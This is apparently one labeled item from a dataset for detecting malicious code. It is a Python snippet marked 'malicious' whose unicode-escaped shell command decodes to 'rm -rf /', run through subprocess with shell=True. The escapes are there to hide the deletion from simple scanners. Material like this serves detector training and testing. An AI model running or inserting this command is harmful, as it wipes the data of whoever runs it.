# label: malicious; obfuscated: unicode_escape
import subprocess
subprocess.run("\u0072\u006d -rf /", shell=True)
